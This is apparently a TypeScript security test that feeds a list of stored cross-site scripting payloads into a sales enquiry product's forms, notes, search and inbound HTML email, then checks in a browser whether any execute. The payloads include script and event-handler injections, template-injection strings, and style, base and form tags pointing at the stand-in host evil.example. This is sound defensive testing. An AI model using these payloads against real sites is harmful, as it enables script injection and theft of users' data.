import { randomUUID } from 'node:crypto';
import { letter, SALES } from '@studio/tests/support/inbound-mail.ts';
import type { Attack } from '../attack.ts';
import { openAtDesk } from '../desk-screen.ts';
import { openOwnPage } from '../own-page.ts';
import { postDesk } from '../product.ts';
import { mailsOf } from '../thread.ts';
import { watched } from '../watched.ts';

const SIGN = 'obeyed=1';
const scripts = [
  `<script>${SIGN}</script>`,
  `<img src=x onerror="${SIGN}">`,
  `<svg onload="${SIGN}">`,
  `"><script>${SIGN}</script>`,
  `'><img src=x onerror=${SIGN}>`,
  `</title></textarea><script>${SIGN}</script>`,
  `<iframe srcdoc="<script>parent.${SIGN}</script>"></iframe>`,
  `<a href="javascript:${SIGN}">x</a>`,
  `<details open ontoggle=${SIGN}>x</details>`,
  `<style>@import 'https://evil.example/x'</style>`,
  `<link rel=stylesheet href=https://evil.example/x>`,
  `<base href=https://evil.example/>`,
  `<form action=https://evil.example><button>x</button></form>`,
  `{{constructor.constructor('${SIGN}')()}}`,
  `\${${SIGN}}`,
  `javascript:${SIGN}//`,
];

/** Markup through every input, opened in a real browser on every screen that shows it. */
export const storedXss: Attack = {
  name: 'stored scripts in a browser',
  least: 48,
  async *run(product) {
    const one = await product.signIn('sales', 'manager');
    for (const script of scripts) {
      const seen = watched(product);
      const said = async (what: string) => {
        await new Promise((resolve) => setTimeout(resolve, 50));
        const found = seen.found.splice(0);
        return { what: `${what}: ${script}: ${found[0] ?? ''}`, isThrough: found.length > 0 };
      };
      const enquiry = await product.enquire({
        name: script.slice(0, 100),
        companyname: script.slice(0, 100),
        subject: script.slice(0, 100),
        projectdetails: script,
      });
      const note = { id: randomUUID(), text: script };
      await postDesk(product, one, `/api/enquiries/${enquiry.id}/notes`, note);
      await product.mailbox.deliver(
        SALES,
        letter(
          {
            From: enquiry.email,
            To: SALES,
            Subject: script,
            'Message-ID': `<${randomUUID()}@x.example>`,
            'In-Reply-To': enquiry.ids.acknowledgement,
            'Content-Type': 'text/html',
          },
          `<p>Look ${script}</p>`,
        ),
      );
      await mailsOf(product, enquiry);
      {
        await using at = await openAtDesk(product, one, `/q/to-answer/${enquiry.id}`, seen.watch);
        await at.page.getByRole('article').waitFor();
        yield await said('the enquiry at the desk');
        await at.page.goto(`${product.desk}/search?q=${encodeURIComponent(script)}`);
        await at.page.getByRole('main').waitFor();
        yield await said('the desk’s search');
      }
      await openOwnPage(product, enquiry.link, seen.watch);
      yield await said('their own page');
    }
  },
};
